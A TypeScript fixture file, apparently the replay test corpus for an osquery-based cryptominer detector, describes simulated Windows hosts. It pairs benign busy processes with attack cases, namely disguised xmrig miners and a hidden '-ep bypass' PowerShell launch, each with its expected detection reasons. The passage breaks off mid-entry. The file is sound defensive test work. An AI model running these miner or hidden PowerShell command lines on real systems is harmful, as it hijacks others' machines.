// The public corpus of Windows hosts for `an1489 replay`: half benign, half
// attacks, each a real shape seen on Windows estates (docs/hunting-playbook.md
// names the classes). `expect` on an attack process lists every reason
// composite_finding must give it.
import type { HostSpec, Proc, Service, Task } from './windows-host.js';

const SYS32 = 'C:\\Windows\\System32';
const MS = 'Microsoft Windows';
const POOL = { remote: '45.9.20.1', port: 3333 };

interface BaseOptions {
  /** Schedule hosted in the shared netsvcs svchost (no -s Schedule), as on low-memory or older builds. */
  readonly sharedSchedule?: boolean;
  readonly user?: string;
  /** Defender's CPU (a full scan runs it at tens of percent). */
  readonly defenderCpu?: number;
}

const EXT_PATH = 'C:\\Program Files\\osquery\\extensions\\an1489.ext.exe';
// What the built an1489.ext.exe carries (scripts/version-resource.mjs): its own version resource, no signature until the organisation signs it.
const EXT_BINARY = { original: 'an1489.ext.exe', version: '0.1.0', signature: 'missing' } as const;

/** The processes every Windows 11 host runs, osqueryd (watcher and worker) and this extension included. */
function base(o: BaseOptions = {}): { processes: Proc[]; services: Service[]; tasks: Task[] } {
  const user = o.user ?? 'alice';
  const sched = o.sharedSchedule
    ? {
        pid: 1100,
        ppid: 700,
        name: 'svchost.exe',
        path: `${SYS32}\\svchost.exe`,
        cmdline: 'C:\\Windows\\system32\\svchost.exe -k netsvcs',
        cpu: 0.4,
      }
    : {
        pid: 1100,
        ppid: 700,
        name: 'svchost.exe',
        path: `${SYS32}\\svchost.exe`,
        cmdline: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
        cpu: 0.2,
      };
  const processes: Proc[] = [
    { pid: 4, ppid: 0, name: 'System', path: '', cmdline: '', cpu: 0.5 },
    {
      pid: 420,
      ppid: 4,
      name: 'smss.exe',
      path: `${SYS32}\\smss.exe`,
      cmdline: '\\SystemRoot\\System32\\smss.exe',
      cpu: 0,
    },
    {
      pid: 560,
      ppid: 548,
      name: 'csrss.exe',
      path: `${SYS32}\\csrss.exe`,
      cmdline:
        '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16',
      cpu: 0.1,
    },
    { pid: 640, ppid: 548, name: 'wininit.exe', path: `${SYS32}\\wininit.exe`, cmdline: 'wininit.exe', cpu: 0 },
    {
      pid: 700,
      ppid: 640,
      name: 'services.exe',
      path: `${SYS32}\\services.exe`,
      cmdline: 'C:\\Windows\\system32\\services.exe',
      cpu: 0.2,
    },
    {
      pid: 716,
      ppid: 640,
      name: 'lsass.exe',
      path: `${SYS32}\\lsass.exe`,
      cmdline: 'C:\\Windows\\system32\\lsass.exe',
      cpu: 0.3,
    },
    {
      pid: 900,
      ppid: 700,
      name: 'svchost.exe',
      path: `${SYS32}\\svchost.exe`,
      cmdline: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
      cpu: 0.3,
    },
    {
      pid: 980,
      ppid: 700,
      name: 'svchost.exe',
      path: `${SYS32}\\svchost.exe`,
      cmdline: 'C:\\Windows\\system32\\svchost.exe -k RPCSS -p',
      cpu: 0.2,
    },
    sched,
    {
      pid: 1300,
      ppid: 700,
      name: 'svchost.exe',
      path: `${SYS32}\\svchost.exe`,
      cmdline: 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp',
      cpu: 0.1,
      sockets: [{ remote: '10.20.0.1', port: 67, protocol: 17 }],
    },
    {
      pid: 1720,
      ppid: 700,
      name: 'spoolsv.exe',
      path: `${SYS32}\\spoolsv.exe`,
      cmdline: 'C:\\Windows\\System32\\spoolsv.exe',
      cpu: 0,
    },
    {
      pid: 2100,
      ppid: 900,
      name: 'WmiPrvSE.exe',
      path: `${SYS32}\\wbem\\WmiPrvSE.exe`,
      cmdline: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      cpu: 0.4,
    },
    {
      pid: 2400,
      ppid: 700,
      name: 'osqueryd.exe',
      path: 'C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe',
      cmdline:
        '"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe" --flagfile="C:\\Program Files\\osquery\\osquery.flags"',
      cpu: 1.5,
      binary: { original: 'osqueryd.exe', signature: 'trusted', signer: 'osquery' },
    },
    // osqueryd's worker: the watcher's (2400) child, as osquery_info reports it (pid 2410, watcher 2400).
    {
      pid: 2410,
      ppid: 2400,
      name: 'osqueryd.exe',
      path: 'C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe',
      cmdline:
        '"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe" --flagfile="C:\\Program Files\\osquery\\osquery.flags"',
      cpu: 1.5,
      binary: { original: 'osqueryd.exe', signature: 'trusted', signer: 'osquery' },
    },
    // This extension, autoloaded by the watcher: unsigned, in Program Files; never a finding.
    {
      pid: 2460,
      ppid: 2400,
      name: 'an1489.ext.exe',
      path: EXT_PATH,
      cmdline:
        '"C:\\Program Files\\osquery\\extensions\\an1489.ext.exe" --socket \\\\.\\pipe\\shell.em --timeout 3 --interval 3',
      cpu: 2,
      binary: EXT_BINARY,
    },
    {
      pid: 3000,
      ppid: 2980,
      name: 'explorer.exe',
      path: 'C:\\Windows\\explorer.exe',
      cmdline: 'C:\\Windows\\Explorer.EXE',
      user,
      cpu: 0.8,
    },
    {
      pid: 3120,
      ppid: 1100,
      name: 'taskhostw.exe',
      path: `${SYS32}\\taskhostw.exe`,
      cmdline: 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}',
      user,
      cpu: 0.1,
    },
    {
      pid: 3300,
      ppid: 900,
      name: 'RuntimeBroker.exe',
      path: `${SYS32}\\RuntimeBroker.exe`,
      cmdline: 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
      user,
      cpu: 0.1,
    },
    {
      pid: 3500,
      ppid: 700,
      name: 'MsMpEng.exe',
      path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
      cmdline: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
      cpu: o.defenderCpu ?? 1.2,
      binary: { original: 'MsMpEng.exe', signature: 'trusted', signer: 'Microsoft Windows Publisher' },
    },
    {
      pid: 3620,
      ppid: 3000,
      name: 'OneDrive.exe',
      path: `C:\\Users\\${user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe`,
      cmdline: `"C:\\Users\\${user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background`,
      user,
      cpu: 0.5,
      sockets: [{ remote: '13.107.42.12', port: 443 }],
      binary: { original: 'OneDrive.exe', signature: 'trusted', signer: 'Microsoft Corporation' },
    },
    // .NET apphost: the native launcher carries the managed pwsh.dll's version resource.
    {
      pid: 3700,
      ppid: 3000,
      name: 'pwsh.exe',
      path: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
      cmdline: '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoLogo',
      user,
      cpu: 0.1,
      binary: { original: 'pwsh.dll', signature: 'trusted', signer: 'Microsoft Corporation', version: '7.4.6.500' },
    },
  ];
  const services: Service[] = [
    { name: 'Schedule', pid: 1100, path: `${SYS32}\\svchost.exe -k netsvcs -p`, module: `${SYS32}\\schedsvc.dll` },
    {
      name: 'Winmgmt',
      pid: o.sharedSchedule ? 1100 : 1140,
      path: `${SYS32}\\svchost.exe -k netsvcs -p`,
      module: `${SYS32}\\wbem\\WMIsvc.dll`,
    },
    {
      name: 'Dhcp',
      pid: 1300,
      path: `${SYS32}\\svchost.exe -k LocalServiceNetworkRestricted -p`,
      module: `${SYS32}\\dhcpcore.dll`,
    },
    {
      name: 'osqueryd',
      pid: 2400,
      path: '"C:\\Program Files\\osquery\\osqueryd\\osqueryd.exe" --flagfile="C:\\Program Files\\osquery\\osquery.flags" --service',
    },
    {
      name: 'WinDefend',
      pid: 3500,
      path: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
    },
  ];
  const tasks: Task[] = [
    // Per-user vendor tasks: the SID in the name, the binary under the user's AppData.
    {
      name: 'OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1013',
      path: '\\OneDrive Standalone Update Task-S-1-5-21-3623811015-3361044348-30300820-1013',
      action: `%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe`,
    },
    // scheduled_tasks.action starts with the working directory on many vendor tasks.
    {
      name: 'GoogleUpdaterTaskSystem131.0.6759.0{9B3F3B6E}',
      path: '\\GoogleSystem\\GoogleUpdater\\GoogleUpdaterTaskSystem131.0.6759.0{9B3F3B6E}',
      action:
        'C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6759.0\\ "C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe" --wake --system',
    },
    {
      name: 'ScheduledDefrag',
      path: '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag',
      action: '%windir%\\system32\\defrag.exe -c -h -o -$',
    },
  ];
  return { processes, services, tasks };
}

function host(
  id: string,
  kind: 'benign' | 'attack',
  summary: string,
  extra: Proc[],
  o: BaseOptions & { cpus?: number; tasks?: Task[]; services?: Service[]; wmi?: HostSpec['wmi'] } = {},
): HostSpec {
  const b = base(o);
  return {
    id,
    hostname: `${kind === 'benign' ? 'wks' : 'pc'}-${id}`,
    kind,
    summary,
    cpus: o.cpus ?? 8,
    processes: [...b.processes, ...extra],
    services: [...b.services, ...(o.services ?? [])],
    tasks: [...b.tasks, ...(o.tasks ?? [])],
    wmi: o.wmi,
  };
}

const unsigned = (original: string) => ({ original, signature: 'missing' as const });
const signedBy = (signer: string, original: string) => ({ original, signature: 'trusted' as const, signer });

export const HOSTS: readonly HostSpec[] = [
  // ---- benign ----
  host('office', 'benign', 'Chrome busy on a web app, IPv6 peers; Google updater under Program Files (x86)', [
    {
      pid: 5000,
      ppid: 3000,
      name: 'chrome.exe',
      path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      cmdline: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
      user: 'alice',
      cpu: 45,
      sockets: [
        { remote: '2607:f8b0:4004:c1b::65', port: 443, family: 23 },
        { remote: '142.250.72.14', port: 443 },
      ],
      binary: signedBy('Google LLC', 'chrome.exe'),
    },
    {
      pid: 5100,
      ppid: 1100,
      name: 'updater.exe',
      path: 'C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe',
      cmdline: '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe" --wake --system',
      cpu: 2,
      sockets: [{ remote: '142.250.72.14', port: 443 }],
      binary: signedBy('Google LLC', 'updater.exe'),
    },
  ]),
  host(
    'defender-scan',
    'benign',
    'Defender full scan from its platform folder under ProgramData at 70 %',
    [
      {
        pid: 3501,
        ppid: 3500,
        name: 'MpCopyAccelerator.exe',
        path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCopyAccelerator.exe',
        cmdline: 'MpCopyAccelerator.exe',
        cpu: 0.5,
        binary: signedBy('Microsoft Windows Publisher', 'MpCopyAccelerator.exe'),
      },
    ],
    { defenderCpu: 70 },
  ),
  host(
    'onedrive-sync',
    'benign',
    'OneDrive from the user AppData syncing at 35 % with a long-lived external connection',
    [
      {
        pid: 3621,
        ppid: 3000,
        name: 'OneDrive.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
        cmdline: '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /sync',
        user: 'alice',
        cpu: 35,
        sockets: [
          { remote: '13.107.42.12', port: 443 },
          { remote: '2620:1ec:21::14', port: 443, family: 23 },
        ],
        binary: signedBy('Microsoft Corporation', 'OneDrive.exe'),
      },
    ],
  ),
  host('zoom-call', 'benign', 'Zoom from AppData\\Roaming on a call: 45 %, UDP media to Zoom', [
    {
      pid: 6000,
      ppid: 3000,
      name: 'Zoom.exe',
      path: 'C:\\Users\\alice\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
      cmdline: '"C:\\Users\\alice\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--action=join"',
      user: 'alice',
      cpu: 45,
      sockets: [
        { remote: '170.114.52.2', port: 8801, protocol: 17 },
        { remote: '170.114.52.2', port: 443 },
      ],
      binary: signedBy('Zoom Video Communications, Inc.', 'Zoom.exe'),
    },
  ]),
  host(
    'dotnet-apphost',
    'benign',
    '.NET apphosts (OriginalFilename <name>.dll): pwsh and a vendor test runner busy at 60 %',
    [
      {
        pid: 6100,
        ppid: 3000,
        name: 'ReSharperTestRunner.exe',
        path: 'C:\\Program Files\\JetBrains\\ReSharper\\ReSharperTestRunner.exe',
        cmdline: '"C:\\Program Files\\JetBrains\\ReSharper\\ReSharperTestRunner.exe" --mode=run',
        user: 'alice',
        cpu: 60,
        binary: { original: 'ReSharperTestRunner.dll', signature: 'trusted', signer: 'JetBrains s.r.o.' },
      },
      {
        pid: 6110,
        ppid: 6100,
        name: 'testhost.exe',
        path: 'C:\\Users\\alice\\source\\repos\\Shop\\bin\\Debug\\net8.0\\testhost.exe',
        cmdline: 'testhost.exe --port 53211',
        user: 'alice',
        cpu: 30,
        binary: { original: 'testhost.dll', signature: 'trusted', signer: 'Microsoft Corporation' },
      },
    ],
  ),
  host(
    'shared-netsvcs-defrag',
    'benign',
    'Schedule in a shared netsvcs svchost starts the weekly defrag (signed, System32) at 30 %',
    [
      {
        pid: 6200,
        ppid: 1100,
        name: 'defrag.exe',
        path: `${SYS32}\\defrag.exe`,
        cmdline: 'C:\\Windows\\system32\\defrag.exe -c -h -o -$',
        cpu: 30,
        start: 0,
        binary: signedBy(MS, 'defrag.exe'),
      },
    ],
    { sharedSchedule: true },
  ),
  host('taskhostw-vendor', 'benign', 'A signed vendor task under taskhostw: Dell SupportAssist scan at 30 %', [
    {
      pid: 6300,
      ppid: 3120,
      name: 'SupportAssistAgent.exe',
      path: 'C:\\Program Files\\Dell\\SupportAssistAgent\\bin\\SupportAssistAgent.exe',
      cmdline: '"C:\\Program Files\\Dell\\SupportAssistAgent\\bin\\SupportAssistAgent.exe" /scan',
      cpu: 30,
      start: 0,
      sockets: [{ remote: '143.166.28.10', port: 443 }],
      binary: signedBy('Dell Inc', 'SupportAssistAgent.exe'),
    },
  ]),
  host(
    'per-user-updater',
    'benign',
    'Per-user Google updater under AppData, started by its per-user task, signed',
    [
      {
        pid: 6400,
        ppid: 1100,
        name: 'updater.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe',
        cmdline: '"C:\\Users\\alice\\AppData\\Local\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe" --wake',
        user: 'alice',
        cpu: 28,
        start: 0,
        sockets: [{ remote: '142.250.72.14', port: 443 }],
        binary: signedBy('Google LLC', 'updater.exe'),
      },
    ],
    {
      tasks: [
        {
          name: 'GoogleUpdaterTaskUser131.0.6759.0{A7B1}',
          path: '\\GoogleUserPEH\\GoogleUpdaterTaskUser131.0.6759.0{A7B1}',
          action:
            'C:\\Users\\alice\\AppData\\Local\\Google\\GoogleUpdater\\131.0.6759.0\\ "C:\\Users\\alice\\AppData\\Local\\Google\\GoogleUpdater\\131.0.6759.0\\updater.exe" --wake',
        },
      ],
    },
  ),
  host(
    'extension-busy',
    'benign',
    'The an1489 extension itself sampling a busy host (unsigned, in the osquery extensions folder)',
    [
      {
        pid: 6500,
        ppid: 2400,
        name: 'an1489.ext.exe',
        path: EXT_PATH,
        cmdline: '"C:\\Program Files\\osquery\\extensions\\an1489.ext.exe" --socket \\\\.\\pipe\\shell.em',
        cpu: 30,
        binary: EXT_BINARY,
      },
    ],
  ),
  host(
    'sql-server',
    'benign',
    'SQL Server under load, LAN clients',
    [
      {
        pid: 6600,
        ppid: 700,
        name: 'sqlservr.exe',
        path: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe',
        cmdline:
          '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
        cpu: 80,
        sockets: [{ remote: '10.20.5.17', port: 51234 }],
        binary: signedBy('Microsoft Corporation', 'sqlservr.exe'),
      },
    ],
    { cpus: 16 },
  ),
  host('video-encode', 'benign', 'HandBrake encoding at 98 %', [
    {
      pid: 6700,
      ppid: 3000,
      name: 'HandBrake.exe',
      path: 'C:\\Program Files\\HandBrake\\HandBrake.exe',
      cmdline: '"C:\\Program Files\\HandBrake\\HandBrake.exe"',
      user: 'alice',
      cpu: 98,
      binary: { original: 'HandBrake.dll', signature: 'trusted', signer: 'HandBrake Team' },
    },
  ]),
  host('game', 'benign', 'A Steam game at 90 % with its UDP game server', [
    {
      pid: 6800,
      ppid: 6790,
      name: 'game.exe',
      path: 'C:\\Program Files (x86)\\Steam\\steamapps\\common\\Game\\game.exe',
      cmdline: '"C:\\Program Files (x86)\\Steam\\steamapps\\common\\Game\\game.exe"',
      user: 'alice',
      cpu: 90,
      sockets: [{ remote: '155.133.248.34', port: 27015, protocol: 17 }],
      binary: signedBy('Valve', 'game.exe'),
    },
    {
      pid: 6790,
      ppid: 3000,
      name: 'steam.exe',
      path: 'C:\\Program Files (x86)\\Steam\\steam.exe',
      cmdline: '"C:\\Program Files (x86)\\Steam\\steam.exe"',
      user: 'alice',
      cpu: 2,
      sockets: [{ remote: '2a01:b740:a20:3000::1f2', port: 27017, family: 23 }],
      binary: signedBy('Valve Corp.', 'steam.exe'),
    },
  ]),
  host('firefox-ipv6', 'benign', 'Firefox with long-lived IPv6 connections at 20 %', [
    {
      pid: 6900,
      ppid: 3000,
      name: 'firefox.exe',
      path: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
      cmdline: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
      user: 'alice',
      cpu: 20,
      sockets: [
        { remote: '2a04:4e42::81', port: 443, family: 23 },
        { remote: '2606:4700::6810:84e5', port: 443, family: 23 },
        { remote: '::ffff:151.101.1.69', port: 443, family: 23 },
      ],
      binary: signedBy('Mozilla Corporation', 'firefox.exe'),
    },
  ]),
  host('programdata-vendor', 'benign', 'A vendor agent under ProgramData (Chocolatey upgrade by its task) at 40 %', [
    {
      pid: 7000,
      ppid: 3120,
      name: 'choco.exe',
      path: 'C:\\ProgramData\\chocolatey\\choco.exe',
      cmdline: 'C:\\ProgramData\\chocolatey\\choco.exe upgrade all -y',
      cpu: 40,
      start: 0,
      sockets: [{ remote: '104.20.74.57', port: 443 }],
      binary: signedBy('Chocolatey Software, Inc.', 'choco.exe'),
    },
  ]),
  host('build-agent', 'benign', 'MSBuild busy on a build agent (host group build-agents in the baseline)', [
    {
      pid: 7100,
      ppid: 7090,
      name: 'MSBuild.exe',
      path: 'C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe',
      cmdline: 'MSBuild.exe /m /nodeReuse:false',
      cpu: 95,
      binary: signedBy('Microsoft Corporation', 'MSBuild.exe'),
    },
    {
      pid: 7090,
      ppid: 700,
      name: 'Agent.Listener.exe',
      path: 'C:\\agent\\bin\\Agent.Listener.exe',
      cmdline: 'C:\\agent\\bin\\Agent.Listener.exe run --startuptype service',
      cpu: 1,
      sockets: [{ remote: '13.107.6.175', port: 443 }],
      binary: { original: 'Agent.Listener.dll', signature: 'trusted', signer: 'Microsoft Corporation' },
    },
  ]),
  host('teams', 'benign', 'New Teams from WindowsApps with a persistent external connection at 25 %', [
    {
      pid: 7200,
      ppid: 3000,
      name: 'ms-teams.exe',
      path: 'C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3315.1257_x64__8wekyb3d8bbwe\\ms-teams.exe',
      cmdline: '"C:\\Program Files\\WindowsApps\\MSTeams_24335.206.3315.1257_x64__8wekyb3d8bbwe\\ms-teams.exe"',
      user: 'alice',
      cpu: 25,
      sockets: [{ remote: '52.112.238.10', port: 443 }],
      binary: signedBy('Microsoft Corporation', 'ms-teams.exe'),
    },
  ]),
  // Siblings: vendor components in their own folders (per-user and ProgramData), signed and busy.
  host(
    'office-c2r',
    'benign',
    'Office Click-to-Run updating at 35 % under services.exe, long-lived connection to the CDN',
    [
      {
        pid: 7300,
        ppid: 700,
        name: 'OfficeClickToRun.exe',
        path: 'C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe',
        cmdline: '"C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe" /service',
        cpu: 35,
        sockets: [{ remote: '23.32.5.190', port: 443 }],
        binary: signedBy('Microsoft Corporation', 'OfficeClickToRun.exe'),
      },
    ],
  ),
  host(
    'edge-update-per-user',
    'benign',
    'A per-user Edge updater under AppData started by its per-user task at 30 %',
    [
      {
        pid: 7400,
        ppid: 1100,
        name: 'MicrosoftEdgeUpdate.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe',
        cmdline:
          '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler',
        user: 'alice',
        cpu: 30,
        start: 0,
        sockets: [{ remote: '13.107.4.50', port: 443 }],
        binary: signedBy('Microsoft Corporation', 'MicrosoftEdgeUpdate.exe'),
      },
    ],
    {
      tasks: [
        {
          name: 'MicrosoftEdgeUpdateTaskUserS-1-5-21-3623811015-3361044348-30300820-1013UA',
          path: '\\MicrosoftEdgeUpdateTaskUserS-1-5-21-3623811015-3361044348-30300820-1013UA',
          action:
            'C:\\Users\\alice\\AppData\\Local\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe /ua /installsource scheduler',
        },
      ],
    },
  ),
  host(
    'mouso-shared-netsvcs',
    'benign',
    'The update orchestrator worker under a shared netsvcs svchost (UsoSvc shares it with Schedule) at 40 %',
    [
      {
        pid: 7500,
        ppid: 1100,
        name: 'MoUsoCoreWorker.exe',
        path: `${SYS32}\\MoUsoCoreWorker.exe`,
        cmdline: 'C:\\Windows\\System32\\mousocoreworker.exe -Embedding',
        cpu: 40,
        start: 0,
        sockets: [{ remote: '20.42.65.85', port: 443 }],
        binary: signedBy(MS, 'MoUsoCoreWorker.exe'),
      },
    ],
    { sharedSchedule: true },
  ),
  host(
    'defender-task-scan',
    'benign',
    "Defender's scheduled scan: MpCmdRun.exe from the platform folder started by the Task Scheduler at 50 %",
    [
      {
        pid: 7600,
        ppid: 1100,
        name: 'MpCmdRun.exe',
        path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe',
        cmdline:
          '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob',
        cpu: 50,
        start: 0,
        binary: signedBy('Microsoft Windows Publisher', 'MpCmdRun.exe'),
      },
    ],
  ),
  host(
    'teams-classic',
    'benign',
    'Classic Teams from the user AppData on a meeting at 30 % with a long-lived connection',
    [
      {
        pid: 7700,
        ppid: 3000,
        name: 'Teams.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
        cmdline: '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer',
        user: 'alice',
        cpu: 30,
        sockets: [{ remote: '52.114.128.7', port: 443 }],
        binary: signedBy('Microsoft Corporation', 'Teams.exe'),
      },
    ],
  ),
  // ---- attacks ----
  host(
    'appdata-schtask',
    'attack',
    'Renamed xmrig in AppData\\Roaming started by the Task Scheduler',
    [
      {
        pid: 8000,
        ppid: 1100,
        name: 'svcupd.exe',
        path: 'C:\\Users\\bob\\AppData\\Roaming\\svcupd\\svcupd.exe',
        cmdline: 'C:\\Users\\bob\\AppData\\Roaming\\svcupd\\svcupd.exe -c config.json',
        user: 'bob',
        cpu: 95,
        start: 0,
        sockets: [POOL],
        binary: unsigned('xmrig.exe'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'RENAMED',
          'UNSIGNED_BINARY',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
    {
      user: 'bob',
      tasks: [
        {
          name: 'SvcUpd',
          path: '\\SvcUpd',
          action: 'C:\\Users\\bob\\AppData\\Roaming\\svcupd\\svcupd.exe -c config.json',
        },
      ],
    },
  ),
  host(
    'programdata-wmi',
    'attack',
    'An unsigned miner in ProgramData started through WMI, holding an external 443 connection',
    [
      {
        pid: 8100,
        ppid: 2100,
        name: 'igfxsvc.exe',
        path: 'C:\\ProgramData\\IntelGraphics\\igfxsvc.exe',
        cmdline: 'C:\\ProgramData\\IntelGraphics\\igfxsvc.exe',
        cpu: 90,
        start: 0,
        sockets: [{ remote: '198.51.100.23', port: 443 }],
        binary: unsigned(''),
        expect: ['SUSTAINED_CPU', 'LAUNCH_WMI', 'UNSIGNED_BINARY', 'EXTERNAL_PERSISTENT', 'USER_WRITABLE_PATH'],
      },
    ],
    {
      wmi: [
        {
          name: 'IntelGfx',
          command: 'C:\\ProgramData\\IntelGraphics\\igfxsvc.exe',
          executable: 'C:\\ProgramData\\IntelGraphics\\igfxsvc.exe',
          filterQuery:
            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        },
      ],
    },
  ),
  host('public-svchost', 'attack', 'xmrig as svchost.exe in C:\\Users\\Public with --donate-level', [
    {
      pid: 8200,
      ppid: 3000,
      name: 'svchost.exe',
      path: 'C:\\Users\\Public\\svchost.exe',
      cmdline: 'C:\\Users\\Public\\svchost.exe --donate-level 1 -o 45.9.20.1:3333',
      user: 'alice',
      cpu: 97,
      start: 0,
      sockets: [POOL],
      binary: unsigned('xmrig.exe'),
      expect: [
        'SUSTAINED_CPU',
        'MASQUERADE',
        'RENAMED',
        'UNSIGNED_BINARY',
        'POOL_CONNECTION',
        'MINER_CMDLINE',
        'USER_WRITABLE_PATH',
      ],
    },
  ]),
  host('spoofed-program-files', 'attack', 'A miner in "C:\\Program Files \\" (trailing space) run by taskhostw', [
    {
      pid: 8300,
      ppid: 3120,
      name: 'msedge.exe',
      path: 'C:\\Program Files \\Microsoft\\Edge\\msedge.exe',
      cmdline: '"C:\\Program Files \\Microsoft\\Edge\\msedge.exe"',
      cpu: 92,
      start: 0,
      sockets: [POOL],
      binary: unsigned('msedge.exe'),
      expect: ['SUSTAINED_CPU', 'LAUNCH_SCHEDULED_TASK', 'SPOOFED_FOLDER', 'UNSIGNED_BINARY', 'POOL_CONNECTION'],
    },
  ]),
  // osquery's authenticode reports an altered signed file as 'untrusted' (WinVerifyTrust's
  // TRUST_E_BAD_DIGEST falls to its default case), so replay can say no more than that.
  host(
    'tampered-shared-netsvcs',
    'attack',
    'A patched Chrome helper (tampered signature) started by Schedule in a shared netsvcs svchost',
    [
      {
        pid: 8400,
        ppid: 1100,
        name: 'chrome_proxy.exe',
        path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe',
        cmdline: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe"',
        cpu: 96,
        start: 0,
        sockets: [{ remote: '51.15.65.182', port: 14444 }],
        binary: { original: 'chrome_proxy.exe', signature: 'untrusted', signer: 'Google LLC' },
        expect: ['SUSTAINED_CPU', 'LAUNCH_SCHEDULED_TASK', 'SIGNATURE_UNTRUSTED', 'POOL_CONNECTION'],
      },
    ],
    { sharedSchedule: true },
  ),
  host(
    'vendor-name-temp',
    'attack',
    'A miner named GoogleUpdate.exe in AppData\\Local\\Temp started by PowerShell, IPv6 pool peer',
    [
      {
        pid: 8500,
        ppid: 8490,
        name: 'GoogleUpdate.exe',
        path: 'C:\\Users\\carol\\AppData\\Local\\Temp\\GoogleUpdate.exe',
        cmdline: 'C:\\Users\\carol\\AppData\\Local\\Temp\\GoogleUpdate.exe',
        user: 'carol',
        cpu: 94,
        start: 0,
        sockets: [{ remote: '2a01:4f8:c17:1234::2', port: 3333, family: 23 }],
        binary: unsigned('GoogleUpdate.exe'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_POWERSHELL',
          'VENDOR_NAME_MISPLACED',
          'UNSIGNED_BINARY',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
      {
        pid: 8490,
        ppid: 3000,
        name: 'powershell.exe',
        path: `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        cmdline: 'powershell.exe -nop -w hidden -ep bypass -f C:\\Users\\carol\\AppData\\Local\\Temp\\u.ps1',
        user: 'carol',
        cpu: 1,
        start: -60,
        binary: signedBy(MS, 'PowerShell.EXE'),
      },
    ],
    { user: 'carol' },
  ),
  host(
    'onedrive-name-programdata',
    'attack',
    'OneDriveStandaloneUpdater.exe under ProgramData, unsigned, run by Schedule in a shared svchost',
    [
      {
        pid: 8600,
        ppid: 1100,
        name: 'OneDriveStandaloneUpdater.exe',
        path: 'C:\\ProgramData\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe',
        cmdline: '"C:\\ProgramData\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe"',
        cpu: 88,
        start: 0,
